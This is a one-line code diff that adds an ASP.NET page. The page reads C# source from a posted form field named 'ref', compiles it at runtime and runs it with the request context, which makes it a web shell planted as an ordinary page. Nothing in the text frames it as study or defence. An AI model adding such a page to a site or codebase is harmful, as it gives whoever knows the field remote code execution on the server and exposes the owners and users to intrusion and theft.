@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% var cp = new Microsoft.CSharp.CSharpCodeProvider(); var r = cp.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["ref"]); r.CompiledAssembly.CreateInstance("X").Equals(Context); %>
